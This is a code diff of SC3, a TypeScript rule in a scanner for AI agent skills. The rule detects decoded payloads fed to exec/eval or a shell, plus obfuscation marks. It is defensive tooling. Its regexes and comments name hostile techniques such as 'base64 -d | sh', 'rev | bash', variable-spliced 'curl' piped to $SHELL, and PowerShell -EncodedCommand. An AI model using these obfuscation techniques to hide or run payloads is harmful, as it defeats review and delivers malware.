@@ -1,13 +1,225 @@
-import type { FileType } from '../../shared/types.js';
+// SC3: a hidden payload decoded and executed, and the marks obfuscators leave in code.
+//
+// Two kinds of evidence, judged differently:
+// - decode-and-execute (a decoder's output reaches exec/eval, a shell, or a process call; `base64 -d | sh`,
+//   `rev | bash`, a ROT13 `tr … | sh`, escaped bytes piped to a shell, a command spliced from variables):
+//   in any text the agent reads or runs, SKILL.md included, fenced or not. Reported CRITICAL: the step
+//   exists only to keep a reviewer from reading what runs.
+// - obfuscation marks (`_0x…(` identifiers, inline `__import__("os").system`, very long encoded literals):
+//   code only, HIGH at the pattern's confidence.
+// Base64 is not evidence by itself: signatures, certificates, SBOMs and lockfiles carry it as data, and
+// calibration drops every finding there; data files are never read for the literal marks.
+import { fileRole } from '../../analysis/placement.js';
+import { viewsOf, type SharedView } from '../../analysis/views.js';
+import type { FileView } from '../../model/bundle.js';
+import type { Severity } from '../../shared/types.js';
+import { bestPerLine } from '../kit/scan-helpers.js';
 import { defineRule } from '../types.js';
+import type { RuleHit } from '../types.js';
+import { cautionaryReason, downgradeCautionary } from './context.js';
 
-const CODE_TYPES: readonly FileType[] = ['python', 'javascript', 'typescript', 'shell', 'powershell', 'batch', 'ruby', 'other'];
+type Kind = 'exec' | 'mark' | 'encoded-ps';
+
+interface Spec {
+  re: RegExp;
+  label: string;
+  kind: Kind;
+  confidence: number;
+  keywords: readonly string[];
+}
 
 const DECODERS =
-  String.raw`(?:base64\s{0,2}\.\s{0,2}(?:b64decode|b32decode|b85decode|decodebytes|decodestring|urlsafe_b64decode)|b64decode|codecs\s{0,2}\.\s{0,2}decode|zlib\s{0,2}\.\s{0,2}decompress|lzma\s{0,2}\.\s{0,2}decompress|bz2\s{0,2}\.\s{0,2}decompress|gzip\s{0,2}\.\s{0,2}decompress|marshal\s{0,2}\.\s{0,2}loads|bytes\s{0,2}\.\s{0,2}fromhex|binascii\s{0,2}\.\s{0,2}(?:unhexlify|a2b_base64|a2b_hex)|atob|Buffer\s{0,2}\.\s{0,2}from|unescape|String\s{0,2}\.\s{0,2}fromCharCode)`;
+  String.raw`(?:base64\s{0,2}\.\s{0,2}(?:b64decode|b32decode|b85decode|decodebytes|decodestring|urlsafe_b64decode)|b64decode|codecs\s{0,2}\.\s{0,2}decode|zlib\s{0,2}\.\s{0,2}decompress|lzma\s{0,2}\.\s{0,2}decompress|bz2\s{0,2}\.\s{0,2}decompress|gzip\s{0,2}\.\s{0,2}decompress|marshal\s{0,2}\.\s{0,2}loads|bytes\s{0,2}\.\s{0,2}fromhex|binascii\s{0,2}\.\s{0,2}(?:unhexlify|a2b_base64|a2b_hex)|atob|Buffer\s{0,2}\.\s{0,2}from|unescape|String\s{0,2}\.\s{0,2}fromCharCode|Base64\s{0,2}\.\s{0,2}(?:decode64|strict_decode64|urlsafe_decode64)|decode_base64|base64_decode|gzinflate|gzuncompress|gzdecode|str_rot13)`;
+const DECODER_WORDS = ['b64decode', 'b32decode', 'b85decode', 'decodebytes', 'decodestring', 'codecs', 'decompress', 'marshal', 'fromhex', 'binascii', 'atob', 'buffer', 'unescape', 'fromcharcode', 'decode64', 'decode_base64', 'base64_decode', 'gzinflate', 'gzuncompress', 'gzdecode', 'str_rot13'];
+
+// Where shell text goes to run: a shell or interpreter reading stdin, `$SHELL` included.
+const SINK = String.raw`(?:sudo\s{1,4}(?:-\S{1,6}\s{1,4})?)?(?:(?:(?:\/usr)?(?:\/local)?\/bin\/)?(?:(?:ba|z|da|k)?sh|python[0-9.]{0,4}|perl|node|ruby|php)\b|\$\{?SHELL\b\}?)`;
+// Shell decoders: base64 (GNU -d, macOS -D), xxd, openssl, gzip family.
+const SHELL_DECODE = String.raw`(?:base64\s{1,4}(?:-d|-di|--decode|-D)|xxd\s{1,4}-r(?:\s{1,4}-p)?|openssl\s{1,4}(?:base64|enc)\s{1,4}(?:-\S{1,12}\s{1,4}){0,3}-d|gunzip|zcat|gzip\s{1,4}-d)\b`;
+// Not preceded by `.` or an identifier character: the builtins exec/eval, not `regex.exec(…)`.
+const BUILTIN = String.raw`(?<![.\w$])`;
+const SHELL_RUN = String.raw`\b(?:os\s{0,2}\.\s{0,2}(?:system|popen)|subprocess\s{0,2}\.\s{0,2}(?:run|call|Popen|check_output|check_call|getoutput)|execSync|spawnSync|child_process\s{0,2}\.\s{0,2}(?:exec|spawn)|Runtime\s{0,2}\.\s{0,2}getRuntime\s{0,2}\(\s{0,2}\)\s{0,2}\.\s{0,2}exec|shell_exec|passthru|popen|proc_open)`;
+const VAR = String.raw`\$\{?[A-Za-z_]\w{0,20}\}?`;
+
+const SPECS: readonly Spec[] = [
+  {
+    re: new RegExp(String.raw`${BUILTIN}(?:exec|eval|compile|new\s{1,4}Function|Function)\s{0,4}\([^\n]{0,120}?\b${DECODERS}\s{0,4}\(`, 'gi'),
+    label: 'exec/eval of decoded or decompressed data', kind: 'exec', confidence: 0.9, keywords: DECODER_WORDS,
+  },
+  {
+    re: new RegExp(String.raw`${SHELL_RUN}\s{0,4}\([^\n]{0,120}?\b${DECODERS}\s{0,4}\(`, 'gi'),
+    label: 'Decoded data run as a command', kind: 'exec', confidence: 0.85, keywords: DECODER_WORDS,
+  },
+  {
+    re: new RegExp(String.raw`${BUILTIN}(?:exec|eval)\s{0,4}\(\s{0,4}[rbuRBU]{0,2}['"](?:\\x[0-9a-fA-F]{2}|\\[0-7]{3}|\\u[0-9a-fA-F]{4}){8}`, 'g'),
+    label: 'exec/eval of an escaped string', kind: 'exec', confidence: 0.85, keywords: ['\\x', '\\u', '\\1', '\\0'],
+  },
+  {
+    re: new RegExp(String.raw`\b${SHELL_DECODE}[^\n|]{0,80}\|\s{0,4}${SINK}`, 'gi'),
+    label: 'Decoded payload piped into a shell', kind: 'exec', confidence: 0.9, keywords: ['base64', 'xxd', 'openssl', 'gunzip', 'zcat', 'gzip'],
+  },
+  {
+    re: new RegExp(String.raw`(?:\beval|\b(?:ba|z|da|k)?sh\s{1,4}-c|\bpython[0-9.]{0,4}\s{1,4}-c|\bsource|(?:^|[\s;&|])\.)\s{1,4}["']?(?:\$\(|\x60|<\()[^\n]{0,200}?(?:\b${SHELL_DECODE}|\|\s{0,4}rev\b|\|\s{0,4}tr\s)`, 'gim'),
+    label: 'Shell evaluates decoded text', kind: 'exec', confidence: 0.85, keywords: ['eval', '-c', 'source', '<(', '$(', '`'],
+  },
+  {
+    re: new RegExp(String.raw`(?:\||^|[;&(])\s{0,4}rev\b[^\n|]{0,300}\|\s{0,4}${SINK}`, 'gim'),
+    label: 'Reversed text piped into a shell', kind: 'exec', confidence: 0.85, keywords: ['rev'],
+  },
+  {
+    re: new RegExp(String.raw`(?:\||^|[;&(])\s{0,4}tr\s{1,4}['"]?[A-Za-z][A-Za-z-]{2,11}['"]?\s{1,4}['"]?[A-Za-z][A-Za-z-]{2,15}['"]?[^\n|]{0,300}\|\s{0,4}${SINK}`, 'gim'),
+    label: 'Letter-substituted (ROT13-style) text piped into a shell', kind: 'exec', confidence: 0.85, keywords: ['tr '],
+  },
+  {
+    re: new RegExp(String.raw`\b(?:printf|echo\s{1,4}-[neE]{1,3})\s{1,4}\$?['"][^'"\n]{0,40}(?:\\x[0-9a-fA-F]{2}|\\[0-7]{3}|\\u[0-9a-fA-F]{4}){4}[^\n]{0,400}?\|\s{0,4}${SINK}`, 'gi'),
+    label: 'Escaped bytes piped into a shell', kind: 'exec', confidence: 0.85, keywords: ['printf', 'echo'],
+  },
+  {
+    // `c=cu; d=rl; $c$d -s host/x | $SHELL`: a command name assembled from variables, fed to a shell.
+    re: new RegExp(String.raw`(?:^|[;&|(]|\$\(|\b(?:then|do)\b)\s{0,4}(?:${VAR}){2,4}(?=[\s;|&)])[^\n]{0,300}?\|\s{0,4}${SINK}`, 'gim'),
+    label: 'Command spliced from variables, piped into a shell', kind: 'exec', confidence: 0.85, keywords: ['$'],
+  },
+  {
+    // Short fragments assigned, then joined as a command: `a=cu;b=rl;$a$b …`.
+    re: new RegExp(String.raw`\b[A-Za-z_]\w{0,15}=['"]?[\w.-]{1,5}['"]?\s{0,2};\s{0,4}[A-Za-z_]\w{0,15}=['"]?[\w.-]{1,5}['"]?\s{0,2}(?=;)[^\n]{0,120}?(?:[;&|(]|\$\()\s{0,4}(?:${VAR}){2,4}(?=[\s;|&)])`, 'g'),
+    label: 'Command spliced from short variable fragments', kind: 'exec', confidence: 0.85, keywords: ['$'],
+  },
+  {
+    re: /\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]{0,80}?\s-(?:e|ec|enc|encodedcommand)\s{1,4}[A-Za-z0-9+/]{40,}={0,2}/gi,
+    label: 'PowerShell -EncodedCommand', kind: 'encoded-ps', confidence: 0.9, keywords: ['powershell', 'pwsh'],
+  },
+  {
+    re: /\b(?:iex|invoke-expression)\b[^\n]{0,120}?frombase64string/gi,
+    label: 'PowerShell Invoke-Expression of base64 data', kind: 'exec', confidence: 0.9, keywords: ['frombase64string'],
+  },
+  {
+    re: /\b_0x[0-9a-f]{4,8}\s{0,2}\(/gi,
+    label: 'JavaScript-obfuscator identifier', kind: 'mark', confidence: 0.75, keywords: ['_0x'],
+  },
+  {
+    re: /\b__import__\s{0,4}\(\s{0,4}['"](?:os|subprocess|pty|commands)['"]\s{0,4}\)\s{0,4}\.\s{0,4}(?:system|popen|call|run|check_output|Popen|spawn|getoutput)\b/g,
+    label: 'Inline __import__ of a command runner', kind: 'mark', confidence: 0.85, keywords: ['__import__'],
+  },
+  {
+    re: /\bgetattr\s{0,4}\(\s{0,4}__import__\s{0,4}\(\s{0,4}['"](?:os|subprocess)['"]/g,
+    label: 'Reflective call into os/subprocess', kind: 'mark', confidence: 0.85, keywords: ['__import__'],
+  },
+  {
+    // Mixed-case base64 with digits, 200+ characters, as a string literal in code.
+    re: /['"`](?=[A-Za-z0-9+/]{0,400}[0-9])(?=[A-Za-z0-9+/]{0,400}[A-Z])(?=[A-Za-z0-9+/]{0,400}[a-z])[A-Za-z0-9+/]{200,}={0,2}['"`]/g,
+    label: 'Long base64 literal in code', kind: 'mark', confidence: 0.55, keywords: [],
+  },
+  {
+    re: /['"`](?:(?=[0-9a-fA-F]{0,400}[0-9])(?=[0-9a-fA-F]{0,400}[a-fA-F])[0-9a-fA-F]{200,}|(?:\\x[0-9a-fA-F]{2}){100,})['"`]/g,
+    label: 'Long hex literal in code', kind: 'mark', confidence: 0.55, keywords: [],
+  },
+];
+
+// Decoded flows over two statements: `p = base64.b64decode(s)` … `exec(p)`; `x=$(echo … | base64 -d)` … `eval "$x"`.
+const ASSIGN_DECODED = new RegExp(
+  String.raw`^\s{0,40}(?:(?:const|let|var|local|export)\s{1,4})?([A-Za-z_$][\w$]{0,40})\s{0,4}=\s{0,4}(?:[^\n]{0,80}?\b${DECODERS}\s{0,4}\(|["']?\$\([^\n]{0,200}?(?:\b${SHELL_DECODE}|\|\s{0,4}rev\b|\|\s{0,4}tr\s))`,
+  'i',
+);
+const FOLLOW_LINES = 10;
+const MAX_ASSIGNS = 256;
+const MAX_LINE = 2_000;
+
+function escapeRe(s: string): string {
+  return s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
+}
+
+function decodedThenRun(lines: readonly string[]): { line: number; runLine: number; matched: string }[] {
+  const out: { line: number; runLine: number; matched: string }[] = [];
+  let seen = 0;
+  for (let i = 0; i < lines.length && seen < MAX_ASSIGNS; i += 1) {
+    const text = (lines[i] ?? '').slice(0, MAX_LINE);
+    if (!text.includes('=')) continue;
+    const m = ASSIGN_DECODED.exec(text);
+    if (!m) continue;
+    seen += 1;
+    const v = escapeRe(m[1] ?? '');
+    const run = new RegExp(
+      String.raw`${BUILTIN}(?:exec|eval)\s{0,4}\(\s{0,4}(?:compile\s{0,4}\(\s{0,4})?${v}\b|\bnew\s{1,4}Function\s{0,4}\(\s{0,4}${v}\b|${SHELL_RUN}\s{0,4}\(\s{0,4}${v}\b|\beval\s{1,4}["']?\$\{?${v}\b|\b(?:ba|z|da|k)?sh\s{1,4}-c\s{1,4}["']?\$\{?${v}\b|\b(?:echo|printf)\s{1,4}(?:-\S{1,3}\s{1,4})?["']?\$\{?${v}\b[^\n|]{0,40}\|\s{0,4}${SINK}`,
+      'i',
+    );
+    for (let j = i + 1; j < lines.length && j <= i + FOLLOW_LINES; j += 1) {
+      if (run.test((lines[j] ?? '').slice(0, MAX_LINE))) {
+        out.push({ line: i + 1, runLine: j + 1, matched: text.trim().slice(0, 200) });
+        break;
+      }
+    }
+  }
+  return out;
+}
+
+// Data, not commands: in these languages a PowerShell command line is a string until a process call runs it.
+const HOST_LANGUAGES: ReadonlySet<string> = new Set(['python', 'javascript', 'typescript', 'ruby', 'go', 'php', 'rust']);
+const PROCESS_CALL = /\b(?:spawn|spawnSync|exec|execSync|execFile|execFileSync|system|popen|Popen|subprocess|check_output|check_call|call|run|Start-Process|ShellExecute\w{0,4}|Process\.Start|Command|shell_exec|passthru|proc_open)\s{0,4}\(/;
+const MARK_TYPES: ReadonlySet<string> = new Set(['python', 'javascript', 'typescript', 'shell', 'powershell', 'batch', 'ruby', 'other']);
+
+// `… | python -m json.tool`, `… | node -e "…"`: the interpreter's code is its argument; stdin is data.
+const DATA_FILTER_AFTER = /^\s{1,4}-[cme]\b/;
+const INTERPRETER_END = /(?:python[0-9.]{0,4}|node|perl|ruby|php)$/i;
+
+// A whole-line comment in code documents a technique; nothing on that line runs. Only markers that comment
+// out the entire rest of the line in that language (no block comments: `/* x */ eval(…)` runs).
+const HASH_COMMENT = /^\s{0,40}#(?!!)/;
+const SLASH_COMMENT = /^\s{0,40}\/\//;
+const BATCH_COMMENT = /^\s{0,40}(?:@?rem\b|::)/i;
+const COMMENT_LINE: Readonly<Record<string, RegExp>> = {
+  python: HASH_COMMENT, shell: HASH_COMMENT, ruby: HASH_COMMENT, powershell: HASH_COMMENT,
+  javascript: SLASH_COMMENT, typescript: SLASH_COMMENT, go: SLASH_COMMENT, rust: SLASH_COMMENT, php: SLASH_COMMENT,
+  batch: BATCH_COMMENT,
+};
+
+// A Markdown table row is a cell layout, not a command line: `| rev | python |` is two cells.
+const TABLE_ROW = /^\s{0,8}\|/;
+const PROSE_TYPES: ReadonlySet<string> = new Set(['markdown', 'text']);
+
+function judge(file: FileView, spec: Spec, lines: readonly string[], line: number, matched: string, after: string): { severity: Severity; confidence: number; label: string } | null {
+  if (PROSE_TYPES.has(file.type) && TABLE_ROW.test((lines[line - 1] ?? '').slice(0, 40))) return null;
+  if (COMMENT_LINE[file.type]?.test((lines[line - 1] ?? '').slice(0, 200))) {
+    return { severity: 'LOW', confidence: 0.3, label: `${spec.label} (in a comment)` };
+  }
+  if (spec.kind === 'exec' && INTERPRETER_END.test(matched) && DATA_FILTER_AFTER.test(after)) {
+    return { severity: 'LOW', confidence: 0.2, label: 'Decoded data piped into an interpreter used as a data filter' };
+  }
+  if (spec.kind === 'mark') return MARK_TYPES.has(file.type) ? { severity: 'HIGH', confidence: spec.confidence, label: spec.label } : null;
+  if (spec.kind === 'encoded-ps' && HOST_LANGUAGES.has(file.type)) {
+    const near = [lines[line - 3], lines[line - 2], lines[line - 1]].map((l) => (l ?? '').slice(0, MAX_LINE)).join('\n');
+    if (!PROCESS_CALL.test(near)) return { severity: 'LOW', confidence: 0.3, label: 'PowerShell encoded command held as a data string' };
+  }
+  return { severity: 'CRITICAL', confidence: spec.confidence, label: spec.label };
+}
+
+function scan(file: FileView, view: SharedView, tag: string | undefined, hits: RuleHit[]): void {
+  for (const spec of SPECS) {
+    if (spec.keywords.length > 0 && !view.keywords.any(spec.keywords)) continue;
+    spec.re.lastIndex = 0;
+    let n = 0;
+    for (let m = spec.re.exec(view.text); m !== null && n < 512; m = spec.re.exec(view.text), n += 1) {
+      if (m[0].length === 0) spec.re.lastIndex += 1;
+      const line = view.index.lineOf(m.index);
+      const after = view.text.slice(m.index + m[0].length, m.index + m[0].length + 8);
+      const j = judge(file, spec, view.lines, line, m[0], after);
+      if (!j) continue;
+      hits.push({
+        line, column: m.index - view.index.lineStart(line), matched: m[0], label: j.label, severity: j.severity, confidence: j.confidence,
+        ...(tag ? { tags: [tag] } : {}), evidence: { technique: spec.kind === 'mark' ? 'obfuscation-mark' : 'decode-execute' },
+      });
+    }
+  }
+  if (!view.keywords.any([...DECODER_WORDS, 'base64', 'xxd', 'openssl', 'gunzip', 'zcat', 'gzip', 'rev', 'tr '])) return;
+  for (const flow of decodedThenRun(view.lines)) {
+    hits.push({
+      line: flow.line, endLine: flow.runLine, matched: flow.matched, column: 0, label: 'Decoded data executed a few lines later',
+      severity: 'CRITICAL', confidence: 0.85, ...(tag ? { tags: [tag] } : {}), evidence: { technique: 'decode-execute', runLine: flow.runLine },
+    });
+  }
+}
 
 export const sc3 = defineRule({
-  kind: 'pattern',
+  kind: 'custom',
   meta: {
     id: 'SC3',
     category: 'Supply Chain',
@@ -15,72 +227,21 @@ export const sc3 = defineRule({
     confidence: 0.8,
     title: 'Obfuscated Code Execution',
     description:
-      'Code that decodes a hidden payload and executes it (exec/eval of base64, hex, zlib or marshal data, `base64 -d | sh`, PowerShell -EncodedCommand), JavaScript-obfuscator identifiers (`_0x…(`), very long encoded literals in code, or `__import__("os").system`. Legitimate skills have no reason to hide what they run; obfuscation defeats review and is a hallmark of malware.',
+      'A hidden payload decoded and executed: exec/eval of base64, hex, zlib, marshal or ROT13 data (in one call or through a variable), `base64 -d | sh`, `rev | bash`, a ROT13 `tr … | sh`, escaped bytes (`printf \'\\x..\' | sh`) or a command spliced from variables (`$c$d … | $SHELL`) piped into a shell, PowerShell -EncodedCommand or Invoke-Expression of base64. These are reported CRITICAL wherever the agent reads or runs them, SKILL.md included: legitimate skills have no reason to hide what they run. Obfuscation marks in code (JavaScript-obfuscator `_0x…(` identifiers, inline `__import__("os").system`, very long encoded literals) are reported HIGH. Base64 in signatures, certificates, SBOMs and lockfiles is data and is not read; an encoded PowerShell command inside a data string of another language is LOW until a process call runs it.',
     remediation:
       'Replace the encoded payload with readable source that reviewers (and scanners) can inspect. If data must be embedded, load it as data and never pass it to exec/eval or a shell.',
-    fileTypes: CODE_TYPES,
   },
-  // Prose may describe these techniques; only code (and unknown types) can run them.
-  appliesTo: (file) => CODE_TYPES.includes(file.type),
-  patterns: [
-    {
-      re: new RegExp(String.raw`\b(?:exec|eval|compile|new\s{1,4}Function|Function)\s{0,4}\([^\n]{0,120}?\b${DECODERS}\s{0,4}\(`, 'i'),
-      keywords: ['exec', 'eval', 'compile', 'function'],
-      label: 'exec/eval of decoded or decompressed data',
-      confidence: 0.9,
-    },
-    {
-      re: /\b(?:base64\s{1,4}(?:-d|--decode|-D)|xxd\s{1,4}-r(?:\s{1,4}-p)?|openssl\s{1,4}(?:base64|enc)\s{1,4}-d|gunzip|zcat)\b[^\n|]{0,80}\|\s{0,4}(?:sudo\s{1,4})?(?:(?:ba|z|da|k)?sh|python[0-9.]{0,4}|perl|node)\b/i,
-      keywords: ['base64', 'xxd', 'openssl', 'gunzip', 'zcat'],
-      label: 'Decoded payload piped into a shell',
-      confidence: 0.9,
-    },
-    {
-      re: /\beval\s{1,4}["']?(?:\$\(|`)[^\n]{0,200}?\b(?:base64\s{1,4}(?:-d|--decode|-D)|xxd\s{1,4}-r|rev\b|tr\s)/i,
-      keywords: ['eval'],
-      label: 'Shell eval of decoded text',
-      confidence: 0.85,
-    },
-    {
-      re: /\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]{0,80}?\s-(?:e|ec|enc|encodedcommand)\s{1,4}[A-Za-z0-9+/]{40,}={0,2}/i,
-      keywords: ['powershell', 'pwsh'],
-      label: 'PowerShell -EncodedCommand',
-      confidence: 0.9,
-    },
-    {
-      re: /\b(?:iex|invoke-expression)\b[^\n]{0,120}?frombase64string/i,
-      keywords: ['frombase64string'],
-      label: 'PowerShell Invoke-Expression of base64 data',
-      confidence: 0.9,
-    },
-    {
-      re: /\b_0x[0-9a-f]{4,8}\s{0,2}\(/i,
-      keywords: ['_0x'],
-      label: 'JavaScript-obfuscator identifier',
-      confidence: 0.75,
-    },
-    {
-      re: /\b__import__\s{0,4}\(\s{0,4}['"](?:os|subprocess|pty|commands)['"]\s{0,4}\)\s{0,4}\.\s{0,4}(?:system|popen|call|run|check_output|Popen|spawn|getoutput)\b/,
-      keywords: ['__import__'],
-      label: 'Inline __import__ of a command runner',
-      confidence: 0.85,
-    },
-    {
-      re: /\bgetattr\s{0,4}\(\s{0,4}__import__\s{0,4}\(\s{0,4}['"](?:os|subprocess)['"]/,
-      keywords: ['__import__'],
-      label: 'Reflective call into os/subprocess',
-      confidence: 0.85,
-    },
-    {
-      // Mixed-case base64 with digits, 200+ characters, as a string literal in code.
-      re: /['"`](?=[A-Za-z0-9+/]{0,400}[0-9])(?=[A-Za-z0-9+/]{0,400}[A-Z])(?=[A-Za-z0-9+/]{0,400}[a-z])[A-Za-z0-9+/]{200,}={0,2}['"`]/,
-      label: 'Long base64 literal in code',
-      confidence: 0.55,
-    },
-    {
-      re: /['"`](?:(?=[0-9a-fA-F]{0,400}[0-9])(?=[0-9a-fA-F]{0,400}[a-fA-F])[0-9a-fA-F]{200,}|(?:\\x[0-9a-fA-F]{2}){100,})['"`]/,
-      label: 'Long hex literal in code',
-      confidence: 0.55,
-    },
-  ],
+  // Signatures, certificates and lockfiles hold base64 as data; binary rows have no text.
+  appliesTo: (file) => file.type !== 'binary' && fileRole(file) !== 'signature' && fileRole(file) !== 'lockfile',
+  check({ file }) {
+    const hits: RuleHit[] = [];
+    const views = viewsOf(file.text);
+    scan(file, views.raw, undefined, hits);
+    if (views.security) scan(file, views.security, 'normalized-view', hits);
+    const lines = views.raw.lines;
+    return bestPerLine(hits, 'HIGH').map((h) => {
+      const why = h.severity !== 'LOW' ? cautionaryReason(file, lines, h.line, views.raw.index) : null;
+      return why ? downgradeCautionary(h, h.confidence ?? 0.8, why) : h;
+    });
+  },
 });
